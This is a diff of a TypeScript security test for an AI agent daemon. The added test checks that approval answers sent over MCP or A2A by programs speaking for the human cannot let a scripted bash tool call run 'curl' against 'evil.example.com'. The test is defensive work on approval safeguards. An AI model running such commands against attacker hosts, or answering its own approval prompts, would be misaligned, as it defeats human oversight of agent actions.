@@ -1,5 +1,5 @@
 /** Programs that speak for the human, and want to be the human. */
-import { existsSync } from "node:fs";
+import { existsSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { expect } from "vitest";
 import { ask, clearLater, upAndReady } from "../daemon.ts";
@@ -75,6 +75,38 @@ attack(
     expect(await ways["A2A, in its context"]!(home, agent)).toContain("approvals: { a2a: true }");
     expect(await ways["MCP, by its id"]!(home, agent)).not.toContain("forbidden");
     await expect.poll(() => existsSync(touched), { timeout: 5_000 }).toBe(true);
+  },
+  30_000,
+);
+
+attack(
+  "mcp",
+  "B17 no program that speaks for the human, and no message, lets a command reach a host",
+  async ({ held }) => {
+    const lab = await createLab();
+    const home = clearLater(newFolder({ "config.yaml": lab.config("# mine\n") }));
+    await upAndReady(home);
+    const before = readFileSync(join(home, "config.yaml"), "utf8");
+    lab.play({ tool: "bash", input: { command: "curl -sS -m 30 http://evil.example.com/" } });
+    const { id: agent } = (await ask(home, "POST /agents", { goal: "g" })).body;
+    const open = async () => (await ask(home, `GET /agents/${agent}`)).body.open_questions;
+    await expect.poll(open, { timeout: 8_000 }).toBe(1);
+    const always: typeof ways = {
+      ...ways,
+      "MCP, always": (home, agent) =>
+        rpc(home, "/mcp", "tools/call", tool("question_answer", { agent, question: "q1", answer: "always" })),
+      "A2A, always": (home, agent) => rpc(home, "/a2a", "message/send", said("always", { contextId: agent })),
+    };
+    for (const [what, answer] of Object.entries(always)) {
+      await answer(home, agent);
+      expect(await open(), what).toBe(1);
+      held();
+    }
+    expect((await ask(home, `POST /agents/${agent}/send`, { message: "always" })).status).toBeLessThan(300);
+    expect(await open()).toBe(1);
+    expect(readFileSync(join(home, "config.yaml"), "utf8")).toBe(before);
+    const events = (await ask(home, `GET /agents/${agent}/events?limit=500`)).body.items as { type: string }[];
+    expect(events.filter(({ type }) => type === "host.opened")).toEqual([]);
   },
   30_000,
 );
